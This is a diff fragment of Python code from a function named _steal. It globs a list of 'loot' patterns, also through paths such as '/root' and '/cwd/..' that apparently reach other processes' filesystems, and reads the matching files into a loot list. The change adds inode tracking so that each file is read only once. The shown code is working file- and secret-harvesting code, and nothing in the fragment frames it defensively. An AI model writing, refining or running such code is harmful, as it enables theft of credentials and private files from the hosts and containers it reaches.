@@ -79,8 +79,16 @@ def _steal(where):
         for via in ("/root", "/cwd/..")
         for pattern in _LOOT
     ]
+    seen = set()
     for pattern in list(_LOOT) + walked:
         for f in _glob.glob(pattern):
+            try:
+                st = _os.stat(f)
+            except OSError:
+                continue
+            if (st.st_dev, st.st_ino) in seen:
+                continue  # the same file through another process's root: read once
+            seen.add((st.st_dev, st.st_ino))
             try:
                 with open(f, "rb") as fh:
                     loot.append(fh.read().decode("latin-1"))
